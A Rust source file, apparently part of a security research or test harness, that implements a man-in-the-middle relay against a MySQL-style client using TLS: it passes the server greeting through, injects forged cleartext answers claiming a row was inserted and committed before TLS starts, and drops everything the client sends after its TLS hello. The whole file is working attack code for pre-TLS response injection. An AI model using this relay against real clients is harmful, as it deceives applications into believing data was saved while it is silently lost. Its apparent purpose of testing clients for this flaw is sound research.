//! Somebody on the way to a real server that speaks TLS: it passes greeting and TLS on, and puts
//! forged answers in the clear behind the greeting, before TLS begins. They say that a row was
//! committed. Nothing that the client says after its TLS hello reaches the server.

use std::io::{self, Read as _, Write as _};
use std::net::TcpStream;
use std::thread;

use crate::honest::answer;
use crate::output::say;
use crate::phase::Phase;
use crate::wire::{AUTOCOMMIT, ok, packet};

/// The statements of a client that writes a row, as far as the answers depend on them.
const STATEMENTS: [&[u8]; 15] = [
    b"\x03SELECT VERSION()",
    b"\x03SET NAMES",
    b"\x03SELECT @@max_allowed_packet,character_set,character_set,character_set,collation,time_zone,sql_mode,isolation,\
      autocommit,0,lower,system_time_zone,innodb_lock_wait_timeout,CONNECTION_ID,GET_LOCK",
    b"\x03SHOW CREATE TABLE",
    b"\x03information_schema.COLUMNS",
    b"\x03information_schema.STATISTICS",
    b"\x03information_schema.KEY_COLUMN_USAGE",
    b"\x03information_schema.TRIGGERS",
    b"\x03information_schema.TABLES",
    b"\x03SHOW CREATE TABLE",
    b"\x03START TRANSACTION",
    b"\x16INSERT INTO t VALUES (?,?)",
    b"\x17",
    b"\x03SHOW CREATE TABLE",
    b"\x03COMMIT",
];

fn forged() -> Vec<u8> {
    let mut bytes = packet(3, &ok(0, AUTOCOMMIT));
    for statement in STATEMENTS {
        bytes.extend(answer(Phase::of_command(statement), statement));
    }
    bytes
}

/// Stands between a client and the server on this port.
pub fn relay(mut client: TcpStream, port: u16) -> io::Result<()> {
    let mut server = TcpStream::connect(("127.0.0.1", port))?;
    let mut buffer = vec![0; 1 << 16];
    let greeting = server.read(&mut buffer)?;
    let said = [buffer.get(..greeting).unwrap_or_default(), &forged()].concat();
    client.write_all(&said)?;
    say("struck");
    let (mut answers, mut to_client) = (server.try_clone()?, client.try_clone()?);
    thread::spawn(move || io::copy(&mut answers, &mut to_client));
    // The request for TLS and its hello pass, and nothing else.
    for part in 0_u64.. {
        let read = client.read(&mut buffer)?;
        if read == 0 {
            break;
        }
        if part < 2 {
            server.write_all(buffer.get(..read).unwrap_or_default())?;
        }
    }
    Ok(())
}
